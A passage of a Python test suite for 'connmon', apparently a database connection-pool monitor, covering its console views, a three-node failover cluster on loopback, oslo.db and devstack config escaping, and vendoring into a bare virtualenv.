                                 for key in ("CONN", "CKOUT", "WAIT",
                                             "TMOUT/S")} == {
            "CONN": "2", "CKOUT": "2", "WAIT": "4", "TMOUT/S": "0"},
            "wait.py WAIT 4")
        assert "MAXCONN" not in term.text
        assert "sorted by CONN descending" in term.text
        assert re.search(r"Wait 4/\d+", term.text)
        y = screen_row(term, "wait.py")["y"]
        assert (term.screen.buffer[y][0].fg, term.screen.buffer[y][0].bg
                ) == ("white", "red")
        # Without colour too: the waiting number carries the marker.
        assert "!4" in term.display[y].split()
        y = screen_row(term, "calm.py")["y"]
        assert term.screen.buffer[y][0].bg != "red"

        term.press(b"s")   # the waiting program's sites come first
        term.wait_for(lambda t: [p for p, _, _ in screen_sites(t)] == [
            "wait.py", "calm.py"], "wait.py's site above calm.py's")
        term.press(b"\x1b")
        term.wait_for(lambda t: screen_row(t, "wait.py"), "the table")

        term.press(b"d")   # the databases view
        term.wait_text("database servers")
        term.wait_for(lambda t: re.search(
            r"127\.0\.0\.1:3306 +all \(mysql\) +2 +1 +2 +!4 +2\b",
            t.text), "the MariaDB server against its 151")
        assert re.search(r"127\.0\.0\.1:3306 +db test +2 +- +2 +!4",
                         term.text)
        assert re.search(r"127\.0\.0\.1:3306 +wait\.py +\S+ +2 +- +2 +!4",
                         term.text)
        # The footer names this view's keys only (the table's "s sites"
        # does nothing here).
        assert "Esc back" in term.display[-1]
        assert "s sites" not in term.display[-1]
        term.press(b"d")
        term.wait_for(lambda t: screen_row(t, "wait.py"), "the table")

        # To wait.py (below calm.py: CONN descending), and into it.
        down = screen_row(term, "wait.py")["y"] - 7
        term.press(term.key["khome"] + term.key["kcud1"] * down + b"\r")
        term.wait_text("wait.py on ")
        term.wait_for(lambda t: re.search(
            r"waiting 4 \(max \d+, longest \d+\.\d ms\)", t.text),
            "the drill-down's pressure line")
        term.wait_text("1 pool, with the database of each")
        assert "mysql://root@127.0.0.1:3306/test" in term.text

        outcomes = json.loads(crowded("outcomes", timeout=60)[0])
        assert [o for o, _ in outcomes].count("timeout") == 4
        term.wait_for(lambda t: re.search(r"timeouts \d+/s \(4\)", t.text),
                      "four timeouts in the drill-down")
    finally:
        daemon.stop()


# ===========================================================================
# The HA cluster
#
# Real connmond nodes on loopback: every node shows the whole picture, a node
# killed, stopped or cut off rejoins, and news in any order, through any
# failover, counts each process once.
# ===========================================================================


class ThreeNodes:
    """Nodes node1..node3 of service "test", each its own connmond."""

    def __init__(self, tmp_path, extra_config: str = ""):
        ports = [free_port() for _ in range(3)]
        self.config = tmp_path / "cluster.cfg"
        self.config.write_text(
            "[connmon_service_test]\nname: test\nnodes:\n" + "".join(
                f"    node{i} hostname=127.0.0.1:{port} bind=127.0.0.1\n"
                for i, port in enumerate(ports, 1)) + extra_config)
        self.nodes = {f"node{i}": Daemon(tmp_path, port, config=self.config,
                                         node=f"node{i}")
                      for i, port in enumerate(ports, 1)}
        self.down: set = set()
        self.last_seen: tuple = ()

    def url(self, tmp_path, name: str) -> str:
        """An SQLite URL monitored through the service (any node)."""
        return (f"sqlite:///{tmp_path}/{name}.sqlite?plugin=connmon"
                f"&connmon_service=test&connmon_config={self.config}")

    def kill(self, name: str) -> None:
        self.nodes[name].kill()
        self.down.add(name)

    def restart(self, name: str) -> None:
        self.nodes[name].start()
        self.down.discard(name)

    def live(self) -> List[Daemon]:
        return [d for n, d in self.nodes.items() if n not in self.down]

    def stop(self) -> None:
        for daemon in self.nodes.values():
            daemon.stop()

    def converged(self, truth: Dict[str, tuple], loose: tuple = ()
                  ) -> Optional[List[dict]]:
        """Every live node's snapshots if all show ``truth``: progname ->
        (nproc, conn, ckout), with only (nproc, conn) compared for the
        programs in ``loose`` (busy ones, whose checkouts come and go);
        every live peer up; else None."""
        snapshots = [d.snapshot() for d in self.live()]
        for snapshot in snapshots:
            seen = {row["progname"]: (row["nproc"], row["conn"], row["ckout"])
                    for row in snapshot["rows"] if row["connected"]}
            for name in loose:
                seen[name] = seen.get(name, (0, 0, 0))[:2]
            up = {n for n, is_up in snapshot["peers"].items() if is_up}
            self.last_seen = (snapshot["node"], seen, up)
            if seen != truth or up != {d.node for d in self.live()
                                       } - {snapshot["node"]}:
                return None
        return snapshots


@pytest.fixture
def cluster(tmp_path):
    nodes = ThreeNodes(tmp_path)
    yield nodes
    nodes.stop()


def wait_converged(cluster: ThreeNodes, truth: Dict[str, tuple],
                   loose: tuple = (), timeout: float = 20.0) -> List[dict]:
    try:
        return wait_until(lambda: cluster.converged(truth, loose), timeout,
                          f"every live node to show {truth}")
    except AssertionError as err:
        raise AssertionError(f"{err}; node, rows, peers up: "
                             f"{cluster.last_seen}") from None


def test_largest_attach_fits_a_peer_message():
    """A process at every cap the daemon keeps, every text at its longest
    in characters JSON writes as 12 bytes each, told to a peer whole."""
    longest = "\U0001F600" * connmon.MAX_NAME
    big_int, age = (1 << 62) - 1, 1e9 - 1e-6
    proc = connmon.ProcessState("i" * connmon.MAX_NAME, longest, longest,
                                big_int, session=big_int)
    now = time.monotonic()
    for n in range(connmon.MAX_PROCESS_CONNECTIONS):
        conn = big_int - n
        proc.conns[conn] = big_int
        proc.checked_out[conn] = now - age
        proc.holders[conn] = (big_int - n % connmon.MAX_SITES, None)
    for n in range(connmon.MAX_SITES):
        proc.site_names[big_int - n] = longest
        proc.held_at[big_int - n] = longest
    for n in range(connmon.MAX_PROCESS_POOLS):
        proc.pools[big_int - n] = big_int
        proc.endpoints[big_int - n] = dict(zip(
            connmon.ENDPOINT_FIELDS,
            (longest, longest, big_int, longest, longest)))
        proc.waiting[big_int - n] = (big_int, now - age)
    proc.checkouts = proc.holds = big_int
    message = connmon_server.attach_message(proc)
    assert len(connmon.encode(
        message, connmon_server.MAX_PEER_MESSAGE_BYTES)) > 16 << 20


def test_a_process_larger_than_a_message_reaches_every_peer(cluster):
    """An app's state may outgrow one message (it sends it in parts): a
    node tells it whole to a peer that comes back, and forwards an
    update of the app's at the very limit; the link is never cut."""
    node1 = cluster.nodes["node1"]
    app = SyntheticApp(node1, "big-host", "big.py")
    emoji = "\U0001F600" * 250   # 3,000 bytes each in JSON

    def add_sites(count: int) -> None:
        first = len(app.state.site_names) + 1
        for number in range(first, first + count):
            app.state.site_names[number] = f"{emoji}{number:05d}"
    for _ in range(2):
        add_sites(300)
        app.send()
    # One update as close to the limit as it gets: grown by sites, then
    # by ASCII characters at the end of the last name.
    app.event(connmon.CONNECT, 1, 1)
    app.event(CHECKOUT, 1)

    def size() -> int:
        return len(json.dumps(app.state.message(time.monotonic(), app.sent),
                              separators=(",", ":"))) + 1
    while size() < connmon.MAX_MESSAGE_BYTES - 4000:
        add_sites(1)
    last = len(app.state.site_names)
    while size() < connmon.MAX_MESSAGE_BYTES - 50:
        app.state.site_names[last] += "x" * min(
            255 - len(app.state.site_names[last]),
            connmon.MAX_MESSAGE_BYTES - 50 - size())
        if len(app.state.site_names[last]) == 255:
            add_sites(1)
            last = len(app.state.site_names)
            app.state.site_names[last] = "s"
    assert size() <= connmon.MAX_MESSAGE_BYTES
    app.send()
    truth = {"big.py": (1, 1, 1)}
    wait_converged(cluster, truth)
    cluster.kill("node2")
    cluster.restart("node2")   # node1 attaches the whole process to it
    wait_converged(cluster, truth)
    assert "cannot send" not in node1.log.read_text()
    app.conn.close()


def test_cluster_every_node_shows_the_whole_picture(cluster, apps, tmp_path):
    pinned = [apps(f"sqlite:///{tmp_path}/p{i}.sqlite?plugin=connmon"
                   f"&connmon_addr={d.address}", f"pinned{i}.py")
              for i, d in enumerate(cluster.live(), 1)]
    anywhere = [apps(cluster.url(tmp_path, f"a{i}"), f"anywhere{i}.py")
                for i in range(1, 3)]
    for i, app in enumerate(pinned + anywhere, 1):
        app(f"hold {i}")
    pinned[0]("release 1")
    truth = {"pinned1.py": (1, 1, 0), "pinned2.py": (1, 2, 2),
             "pinned3.py": (1, 3, 3), "anywhere1.py": (1, 4, 4),
             "anywhere2.py": (1, 5, 5)}
    snapshots = wait_converged(cluster, truth)
    # Each pinned app is attached where it was sent; all nodes agree.
    for i, snapshot in enumerate(snapshots, 1):
        assert snapshot["node"] == f"node{i}"
    row = cluster.nodes["node3"].row("pinned2.py", procs=True)
    assert [p["node"] for p in row["procs"]] == ["node2"]
    maxima = [{r["progname"]: (r["maxnproc"], r["maxconn"], r["maxckout"])
               for r in s["rows"]} for s in snapshots]
    assert maxima[0] == maxima[1] == maxima[2]
    assert maxima[0]["pinned1.py"] == (1, 1, 1)


def test_cluster_node_killed_under_load_and_restarted(cluster, apps,
                                                      tmp_path):
    held = {f"app{i}.py": i for i in range(1, 5)}
    started = {name: apps(cluster.url(tmp_path, name), name)
               for name in held}
    for name, n in held.items():
        started[name](f"hold {n}")
    busy = apps(cluster.url(tmp_path, "busy"), "busy.py")
    busy("busy")
    truth = {name: (1, n, n) for name, n in held.items()}
    truth["busy.py"] = (1, 1)
    wait_converged(cluster, truth, loose=("busy.py",))

    # Kill the node most apps are attached to.
    row_nodes = [p["node"] for r in cluster.nodes["node1"].snapshot(
        procs=True)["rows"] for p in r["procs"]]
    victim = max(sorted(cluster.nodes), key=row_nodes.count)
    assert row_nodes.count(victim) >= 1
    cluster.kill(victim)
    for name, n in held.items():   # the apps keep changing meanwhile
        started[name]("hold 1")
        truth[name] = (1, n + 1, n + 1)
    snapshots = wait_converged(cluster, truth, loose=("busy.py",))
    for snapshot in snapshots:
        assert snapshot["peers"][victim] is False
        assert victim not in {p["node"] for r in cluster.nodes[
            snapshot["node"]].snapshot(procs=True)["rows"]
            for p in r["procs"]}

    cluster.restart(victim)
    started["app1.py"]("release 2")
    truth["app1.py"] = (1, 2, 0)
    wait_converged(cluster, truth, loose=("busy.py",))


def test_cluster_random_failover_orderings_never_double_count(
        cluster, apps, tmp_path):
    seed = int(os.environ.get("CONNMON_TEST_SEED", time.time()))
    rng = random.Random(seed)
    held = {f"app{i}.py": 0 for i in range(1, 5)}
    started = {name: apps(cluster.url(tmp_path, name), name, pool_size=20)
               for name in held}
    for app in started.values():   # a process is listed once it uses a pool
        app("query 1")
    pooled = {name: 1 for name in held}   # a released one stays pooled
    for step in range(10):
        live, down = sorted(n for n in cluster.nodes
                            if n not in cluster.down), sorted(cluster.down)
        if down and (len(live) == 1 or rng.random() < 0.5):
            action = "restart " + rng.choice(down)
            cluster.restart(action.split()[1])
        else:
            action = "kill " + rng.choice(live)
            cluster.kill(action.split()[1])
        name = rng.choice(sorted(held))
        if held[name] and rng.random() < 0.4:
            action += f", release 1 in {name}"
            started[name]("release 1")
            held[name] -= 1
        else:
            action += f", hold 1 more in {name}"
            started[name]("hold 1")
            held[name] += 1
            pooled[name] = max(pooled[name], held[name])
        truth = {name: (1, pooled[name], n) for name, n in held.items()}
        try:
            wait_converged(cluster, truth)
        except AssertionError as err:
            raise AssertionError(f"seed {seed}, step {step} ({action}): "
                                 f"{err}") from None


def test_cluster_stopped_node_is_cut_off_and_rejoins(apps, tmp_path):
    """A node that stops answering (SIGSTOP, longer than the heartbeat
    timeout) is cut off: its applications fail over, the others drop its
    processes; when it runs again it rejoins, and nothing is counted
    twice anywhere."""
    cluster = ThreeNodes(tmp_path, extra_config="heartbeat_timeout: 2\n")
    try:
        held = {f"app{i}.py": i for i in range(1, 7)}
        started = {name: apps(cluster.url(tmp_path, name), name)
                   for name in held}
        for name, n in held.items():
            started[name](f"hold {n}")
        truth = {name: (1, n, n) for name, n in held.items()}
        wait_converged(cluster, truth)
        attached = [p["node"] for r in cluster.nodes["node1"].snapshot(
            procs=True)["rows"] for p in r["procs"]]
        victim = max(sorted(cluster.nodes), key=attached.count)
        cluster.nodes[victim].proc.send_signal(signal.SIGSTOP)
        cluster.down.add(victim)
        try:
            snapshots = wait_converged(cluster, truth)
            for snapshot in snapshots:
                assert snapshot["peers"][victim] is False
        finally:
            cluster.nodes[victim].proc.send_signal(signal.SIGCONT)
            cluster.down.discard(victim)
        started["app1.py"]("hold 1")
        truth["app1.py"] = (1, 2, 2)
        wait_converged(cluster, truth)
    finally:
        cluster.stop()


def _session_news(ident: str, session: int, held: int, ends: bool
                  ) -> List[tuple]:
    """What one node tells others about one session of a process: it
    attached (with ``held`` connections checked out), and maybe it ended."""
    proc = connmon.ProcessState(ident, "host", "prog.py", 42, session)
    listeners = PoolListeners(proc)
    for conn in range(held):
        listeners(CHECKOUT, conn, 0.0, 1)
    news = [("attach", proc)]
    if ends:
        news.append(("detach", session))
    return news


@hypothesis.settings(max_examples=300, deadline=None)
@hypothesis.given(
    origins=st.lists(st.sampled_from(["nodeA", "nodeB"]), min_size=1,
                     max_size=6),
    holds=st.lists(st.integers(0, 3), min_size=6, max_size=6),
    order=st.lists(st.booleans(), min_size=24, max_size=24))
def test_cluster_news_in_any_order_counts_each_process_once(origins, holds,
                                                            order):
    """A process fails over between nodes A and B (one session a node
    visit).  Node C hears each node's news in that node's order, but the
    two streams interleave arbitrarily: C must end with the last session's
    state, counted once."""
    streams: Dict[str, List[tuple]] = {"nodeA": [], "nodeB": []}
    for session, origin in enumerate(origins, 1):
        streams[origin] += [
            (origin, kind, item) for kind, item in _session_news(
                "p1", session, holds[session - 1],
                ends=session < len(origins))]
    picture = connmon_server.Picture()
    choices = iter(order)
    while streams["nodeA"] or streams["nodeB"]:
        pick = "nodeA" if next(choices, True) else "nodeB"
        if not streams[pick]:
            pick = "nodeB" if pick == "nodeA" else "nodeA"
        origin, kind, item = streams[pick].pop(0)
        if kind == "attach":
            twin = connmon.ProcessState(item.ident, item.hostname,
                                        item.progname, item.pid, item.session)
            twin.update(item.message(0.0), 0.0)
            picture.attach(twin, origin)
        else:
            picture.detach("p1", item)
    last = len(origins)
    snapshot = picture.snapshot(0.0)
    assert (snapshot["processes"], snapshot["connections"],
            snapshot["checkouts"]) == (1, holds[last - 1], holds[last - 1])
    assert picture.processes["p1"].session == last
    (row,) = snapshot["rows"]
    assert (row["nproc"], row["conn"], row["ckout"]) == (
        1, holds[last - 1], holds[last - 1])


def test_cluster_batched_forwards_carry_every_update(cluster):
    """Apps on node1 and node2 send counters and checkouts; every node's
    picture converges, and each counts every checkout once (the updates
    reach the peers in batches)."""
    node1, node2, node3 = cluster.nodes.values()
    wait_until(lambda: all(all(d.snapshot()["peers"].values())
                           for d in cluster.live()), 20, "the cluster up")
    apps = [SyntheticApp(node, "batch-host", f"batch{n}.py")
            for n, node in enumerate((node1, node2, node1), 1)]
    for app in apps:
        for conn in (1, 2, 3):
            app.event(connmon.CONNECT, conn, pool=7)
        app.send()
    for round_ in range(20):
        for app in apps:
            app.conn.send(counters_only())
        if round_ in (0, 5, 10):   # each connection checked out once
            apps[0].event(CHECKOUT, 1 + round_ // 5, pool=7)
            apps[0].send()
    wait_converged(cluster, {"batch1.py": (1, 3, 3), "batch2.py": (1, 3, 0),
                             "batch3.py": (1, 3, 0)})
    for node in cluster.live():
        wait_until(lambda: {row["progname"]: row["ckout_total"]
                            for row in node.snapshot()["rows"]} == {
            "batch1.py": 103, "batch2.py": 100, "batch3.py": 100}, 10,
            f"every checkout counted once on {node.node}")


# ===========================================================================
# oslo.db and devstack
#
# OpenStack's way in: oslo.db's create_engine and enginefacade sessions in
# forked workers, and devstack's local.conf recipe landing in a service's
# config file as intended, in each era of its escaping.
# ===========================================================================


def test_oslo_db_create_engine_pool_options_sql_mode_and_ping(daemon):
    require_database(MYSQL_URL)
    import sqlalchemy as sa
    from oslo_db.sqlalchemy import engines
    me = connmon.progname()
    for form in ("dialect", "plugin"):
        engine = engines.create_engine(
            monitored(MYSQL_URL, daemon, form) + "&charset=utf8",
            mysql_sql_mode="TRADITIONAL", max_pool_size=2, max_overflow=1,
            pool_timeout=1, max_retries=1)
        assert engine.dialect.name == "mysql"
        assert (engine.pool.size(), engine.pool.timeout()) == (2, 1)
        held = [engine.connect() for _ in range(3)]   # 2 + 1 overflow
        for conn in held:
            mode = conn.execute(sa.text("SELECT @@SESSION.sql_mode")).scalar()
            assert "TRADITIONAL" in mode.split(",")
        daemon.wait_row(me, conn=3, ckout=3)
        with pytest.raises(sa.exc.TimeoutError):
            engine.connect()   # pool_timeout: the pool is full
        thread_id = held[0].connection.dbapi_connection.thread_id()
        for conn in held:
            conn.close()       # the overflow connection is closed
        daemon.wait_row(me, conn=2, ckout=0, maxconn=3)

        # oslo.db pings at checkout (pool_pre_ping): a connection killed
        # on the server is replaced, and counted once.
        admin = sa.create_engine(MYSQL_URL, poolclass=sa.pool.NullPool)
        with admin.connect() as conn:
            conn.execute(sa.text(f"KILL CONNECTION {int(thread_id)}"))
        held = [engine.connect() for _ in range(2)]
        for conn in held:
            assert conn.execute(sa.text("SELECT 1")).scalar() == 1
        daemon.wait_row(me, conn=2, ckout=2, maxconn=3)
        for conn in held:
            conn.close()
        engine.dispose()
        daemon.wait_row(me, conn=0, ckout=0)


# An OpenStack-style service: it reads its [database] section with
# oslo.config and goes through enginefacade writer and reader sessions, the
# way nova and neutron do.
OSLO_APP_SCRIPT = r'''
import os, sys, time
import sqlalchemy as sa
from oslo_config import cfg
from oslo_db import options as db_options
from oslo_db.sqlalchemy import enginefacade

conf = cfg.ConfigOpts()
db_options.set_defaults(conf)
conf(["--config-file", sys.argv[1]], project="connmon-test")
context = enginefacade.transaction_context()
context.configure(**dict(conf.database.items()))
held = []

class Request:
    """A request context: enginefacade keeps its session on it."""

def hold(mode, n):
    for _ in range(n):
        scope = getattr(context, mode).using(Request())
        session = scope.__enter__()
        session.execute(sa.text("SELECT 1"))
        held.append((scope, session))

def answer(*words):
    print("ok", *words, flush=True)

for line in sys.stdin:
    cmd, *args = line.split()
    if cmd in ("writer", "reader"):
        hold(cmd, int(args[0]))
    elif cmd == "release":
        for _ in range(int(args[0])):
            held.pop()[0].__exit__(None, None, None)
    elif cmd == "info":
        session = held[-1][1]
        pool = context.writer.get_engine().pool
        answer(session.execute(sa.text("SELECT @@SESSION.sql_mode")).scalar(),
               pool.size(), pool._max_overflow, pool.timeout())
        continue
    elif cmd == "fork":
        workers = []
        for i in range(int(args[0])):
            pid = os.fork()
            if pid == 0:   # worker i holds i % 3 + 1 writer sessions
                held.clear()
                hold("writer", i % 3 + 1)
                while True:
                    time.sleep(60)
            workers.append(pid)
        answer(*workers)
        continue
    answer()
'''


class OsloApp(App):
    source = OSLO_APP_SCRIPT


@pytest.mark.parametrize("form", ["dialect", "plugin"])
def test_oslo_db_enginefacade_sessions_and_forked_workers(daemon, tmp_path,
                                                          form):
    """The devstack recipe's URL (connmon_service=, found in the config
    file) in a nova.conf-style [database] section."""
    require_database(MYSQL_URL)
    from sqlalchemy.engine import make_url
    url = make_url(monitored(MYSQL_URL, daemon, form)).difference_update_query(
        ["connmon_addr"]).update_query_dict({
            "charset": "utf8", "connmon_service": "test",
            "connmon_config": str(daemon.config)})
    url = url.render_as_string(hide_password=False)
    conf = tmp_path / "nova.conf"
    conf.write_text(textwrap.dedent(f"""\
        [database]
        connection = {url}
        slave_connection = {url}
        synchronous_reader = false
        max_pool_size = 3
        max_overflow = 2
        pool_timeout = 5
        """))
    app = OsloApp(tmp_path, str(conf), "nova-conductor")
    try:
        app("writer 2")
        app("reader 1")   # the slave_connection engine: a second pool
        daemon.wait_row("nova-conductor", nproc=1, conn=3, ckout=3)
        sql_mode, size, overflow, timeout = app("info")
        assert "TRADITIONAL" in sql_mode.split(",")   # oslo.db's default
        assert (size, overflow, timeout) == ("3", "2", "5")
        app("release 3")
        daemon.wait_row("nova-conductor", conn=3, ckout=0)

        workers = app.fork(4)
        held = {pid: i % 3 + 1 for i, pid in enumerate(workers)}
        total = sum(held.values())
        # Each worker's checkouts find connections inherited from the
        # parent; oslo.db's fork guard discards them and connects anew.
        row = daemon.wait_row("nova-conductor", procs=True, nproc=5,
                              conn=3 + total, ckout=total)
        assert {p["pid"]: (p["conn"], p["ckout"]) for p in row["procs"]} == {
            app.proc.pid: (3, 0), **{pid: (n, n) for pid, n in held.items()}}
    finally:
        app.stop()
    daemon.wait_row("nova-conductor", connected=False, conn=0)


def test_oslo_db_writer_attributed_to_the_application(daemon, tmp_path):
    require_database(MYSQL_URL)
    conf = tmp_path / "nova.conf"
    url = monitored(MYSQL_URL, daemon, "plugin")
    conf.write_text(f"[database]\nconnection = {url}\n")
    app = OsloApp(tmp_path, str(conf), "oslo_sites.py")
    try:
        app("writer 2")
        row = daemon.wait_row("oslo_sites.py", ckout=2)
        (site,) = row["sites"]
        assert site["held"] == 2
        assert site["site"].startswith(f"{tmp_path / 'oslo_sites.py'}:")
        assert site["site"].endswith(" in hold")
    finally:
        app.stop()


# devstack's merge of a local.conf [[post-config|...]] value into a service's
# config file, in bash as devstack runs it (inc/meta-config's
# merge_config_file, inc/ini-config's iniset): its awk prints
# 'iniset FILE SECTION OPTION "VALUE"' lines that are read (without -r) and
# eval'ed; iniset puts the value into a sed command, escaped as each era of
# devstack escapes it.
DEVSTACK_ESCAPES = {
    "2025 on": r"""value=$(echo $value | sed -e 's/\\/\\\\/g' -e 's/&/\\&/g')""",
    "2022 to 2025": r"""value=$(echo $value | sed -e 's/&/\\&/g')""",
    "before 2022": "",
}
DEVSTACK_MERGE = r"""
function iniset {
    local file=$1 section=$2 option=$3 value=$4
    ESCAPE
    if ! grep -q "^\[$section\]" "$file" 2>/dev/null; then
        echo -e "\n[$section]" >> "$file"
    fi
    sed -i -e "/^\[$section\]/ a\\
$option = $value
" "$file"
}
while read a; do eval "$a"; done
"""


def readme_devstack_connections() -> List[Tuple[str, str, str]]:
    """(config variable, section, URL) of each connection line of the
    devstack recipe of docs/openstack.txt."""
    readme = pathlib.Path(HERE, "docs", "openstack.txt").read_text()
    recipe = readme.split("Using with devstack\n", 1)[1].split(
        "\nWhat must end up", 1)[0]
    found, conf, section = [], "", ""
    for line in recipe.splitlines():
        line = line.strip()
        if line.startswith("[[post-config|"):
            conf = line[len("[[post-config|"):-2]
        elif line.startswith("["):
            section = line[1:-1]
        elif line.startswith("connection ="):
            found.append((conf, section, line.split("=", 1)[1].strip()))
    return found


@pytest.mark.parametrize("era", sorted(DEVSTACK_ESCAPES))
def test_devstack_recipe_lands_as_intended(tmp_path, era):
    r"""Every URL of the README's devstack section, merged by devstack of
    each era (the README's "\\&" for each "&" before 2022), lands in the
    service's config as a URL that SQLAlchemy parses to the intended
    database, charset and connmon service."""
    from sqlalchemy.engine import make_url
    connections = readme_devstack_connections()
    assert [(conf, section, make_url(url).database) for conf, section, url
            in connections] == [
        ("$NOVA_CONF", "database", "nova"),
        ("$NOVA_CONF", "api_database", "nova_api"),
        ("$NEUTRON_CONF", "database", "neutron"),
        ("$KEYSTONE_CONF", "database", "keystone"),
        ("$CINDER_CONF", "database", "cinder"),
        ("$GLANCE_API_CONF", "database", "glance")]
    script = tmp_path / "merge.sh"
    script.write_text(DEVSTACK_MERGE.replace("ESCAPE", DEVSTACK_ESCAPES[era]))
    for number, (conf, section, url) in enumerate(connections):
        if era == "before 2022":
            url = url.replace("&", "\\\\&")   # as README says for old ones
        conf_file = tmp_path / f"{number}.conf"
        conf_file.write_text("")
        merged = subprocess.run(
            ["bash", str(script)], input=f'iniset {conf_file} {section} '
            f'connection "{url}"\n', capture_output=True, text=True,
            timeout=30)
        assert merged.returncode == 0, merged.stderr
        parser = configparser.ConfigParser(interpolation=None)
        parser.read_string(conf_file.read_text())
        landed = make_url(parser[section]["connection"])
        assert landed.drivername == "mysql+pymysql_connmon"
        assert landed.database == make_url(url).database
        assert dict(landed.query) == {"charset": "utf8",
                                      "connmon_service": "default"}
        assert connmon.url_settings(landed.query) == {
            "connmon_service": "default"}


def test_devstack_old_escape_breaks_current_devstack(tmp_path):
    r"""Why the recipe changed: "\\&" merged by current devstack lands as
    "\&", and the charset becomes "utf8\"."""
    from sqlalchemy.engine import make_url
    script = tmp_path / "merge.sh"
    script.write_text(DEVSTACK_MERGE.replace(
        "ESCAPE", DEVSTACK_ESCAPES["2025 on"]))
    conf_file = tmp_path / "nova.conf"
    conf_file.write_text("")
    url = ("mysql+pymysql_connmon://root:sa@127.0.0.1/nova?charset=utf8"
           "\\\\&connmon_service=default")
    subprocess.run(["bash", str(script)], check=True, timeout=30,
                   input=f'iniset {conf_file} database connection "{url}"\n',
                   text=True)
    parser = configparser.ConfigParser(interpolation=None)
    parser.read_string(conf_file.read_text())
    landed = make_url(parser["database"]["connection"])
    assert landed.query["charset"] == "utf8\\"


# ===========================================================================
# Vendoring
#
# connmon.py copied alone next to an application in a bare venv is enough;
# the daemon and the console need only the stdlib; installing the entry
# points replaces connmon's own and spares pip's.
# ===========================================================================


PLAIN_ENV = {key: value for key, value in os.environ.items()
             if not key.startswith("PYTHON")}


def copy_modules(directory, *names: str) -> None:
    directory.mkdir()
    for name in names:
        with open(os.path.join(HERE, name), "rb") as file:
            (directory / name).write_bytes(file.read())


def test_vendored_connmon_py_in_a_bare_venv(tmp_path, daemon):
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True,
                   env=PLAIN_ENV, timeout=300)
    python = str(venv / "bin" / "python")
    pip = subprocess.run([python, "-m", "pip", "install", "-q",
                          "--disable-pip-version-check", "SQLAlchemy>=2",
                          "PyMySQL"], env=PLAIN_ENV, capture_output=True,
                         text=True, timeout=600)
    if pip.returncode != 0:
        missing(f"cannot pip install SQLAlchemy, PyMySQL: {pip.stderr}")
    require_database(MYSQL_URL)
    probe = "import importlib.metadata as m; m.distribution('connmon')"
    assert subprocess.run([python, "-c", probe], cwd=tmp_path,
                          env=PLAIN_ENV, capture_output=True).returncode == 1

    app_dir = tmp_path / "app"
    copy_modules(app_dir, "connmon.py")
    result = subprocess.run([python, "connmon.py", "--install-entry-points"],
                            cwd=app_dir, env=PLAIN_ENV, capture_output=True,
                            text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == str(
        app_dir / f"connmon-{connmon.__version__}.dist-info")

    (app_dir / "vendored.py").write_text(textwrap.dedent("""\
        import sys
        import sqlalchemy as sa
        held = [sa.create_engine(url).connect() for url in sys.argv[1:]]
        print("ok", flush=True)
        sys.stdin.read()
        """))
    urls = [monitored(MYSQL_URL, daemon, form)
            for form in ("dialect", "plugin")]
    app = subprocess.Popen([python, str(app_dir / "vendored.py"), *urls],
                           cwd=tmp_path, env=PLAIN_ENV, text=True,
                           stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE)
    try:
        assert app.stdout.readline() == "ok\n", app.stderr.read()
        row = daemon.wait_row("vendored.py", nproc=1, conn=2, ckout=2)
        assert row["hostname"] == socket.gethostname()
    finally:
        app.kill()
        app.wait(10)


def test_daemon_and_console_need_only_the_stdlib(tmp_path, apps):
    """Run from a directory that holds only the three modules, with
    ``-E -s -S``: no site-packages, no PYTHON* variables; the working
    directory is the only thing on sys.path besides the stdlib (``-I``
    would drop it too, see README.txt)."""
    bare = tmp_path / "bare"
    copy_modules(bare, "connmon.py", "connmon_server.py",
                 "connmon_console.py")
    python = [sys.executable, "-E", "-s", "-S"]
    check = subprocess.run(
        python + ["-c", "import sys, connmon_server, connmon_console; "
                  "print(sys.path[0]); import sqlalchemy"],
        cwd=bare, env=PLAIN_ENV, capture_output=True, text=True, timeout=30)
    assert check.stdout == "\n"   # '' is the working directory
    assert "No module named 'sqlalchemy'" in check.stderr

    port = free_port()
    config = tmp_path / "bare.cfg"
    config.write_text(f"[connmon_service_default]\nname: default\nnodes:\n"
                      f"    n1 hostname=127.0.0.1:{port} bind=127.0.0.1\n")
    log = open(tmp_path / "bare-connmond.log", "ab")
    server = subprocess.Popen(python + ["-m", "connmon_server", "-c",
                                        str(config)],
                              cwd=bare, env=PLAIN_ENV, stderr=log)
    try:
        app = apps(f"sqlite:///{tmp_path}/b.sqlite?plugin=connmon"
                   f"&connmon_addr=127.0.0.1:{port}", "bare_app.py")
        app("hold 2")

        def console() -> Optional[dict]:
            result = subprocess.run(
                python + ["-m", "connmon_console", "--once", "--json", "-c",
                          str(config)], cwd=bare, env=PLAIN_ENV,
                capture_output=True, text=True, timeout=30)
            if result.returncode != 0:
                return None
            snapshot = json.loads(result.stdout)
            return snapshot if snapshot["connections"] == 2 else None
        snapshot = wait_until(console, what="the bare console's snapshot")
        (row,) = snapshot["rows"]
        assert (row["progname"], row["conn"], row["ckout"]) == (
            "bare_app.py", 2, 2)
    finally:
        server.terminate()
        server.wait(10)
    assert server.returncode == 0


def test_install_entry_points_replaces_its_own_and_spares_pips(tmp_path):
    from importlib.metadata import PathDistribution
    target = tmp_path / "site"
    copy_modules(target, "connmon.py")
    stale = target / "connmon-0.0.1.dist-info"
    stale.mkdir()
    (stale / "INSTALLER").write_text(connmon.INSTALLER)
    for _ in range(2):
        result = subprocess.run(
            [sys.executable, str(target / "connmon.py"),
             "--install-entry-points"], cwd=tmp_path, env=PLAIN_ENV,
            capture_output=True, text=True, timeout=30)
        assert result.returncode == 0, result.stderr
    (dist_info,) = target.glob("*.dist-info")
    assert dist_info.name == f"connmon-{connmon.__version__}.dist-info"
    dist = PathDistribution(dist_info)
    assert (dist.metadata["Name"], dist.version) == (
        "connmon", connmon.__version__)
    assert {(ep.group, ep.name, ep.value) for ep in dist.entry_points} == {
        *(("sqlalchemy.dialects", name, f"connmon:{attr}")
          for name, attr in connmon.DIALECT_ENTRY_POINTS.items()),
        ("sqlalchemy.plugins", "connmon", "connmon:ConnmonPlugin")}

    (dist_info / "INSTALLER").write_text("pip\n")   # as pip would leave it
    result = subprocess.run(
        [sys.executable, str(target / "connmon.py"), "--install-entry-points",
         "--target", str(target)], cwd=tmp_path, env=PLAIN_ENV,
        capture_output=True, text=True, timeout=30)
    assert result.returncode == 1
    assert "exists and was not written by this command" in result.stderr
    assert (dist_info / "INSTALLER").read_text() == "pip\n"


# ===========================================================================
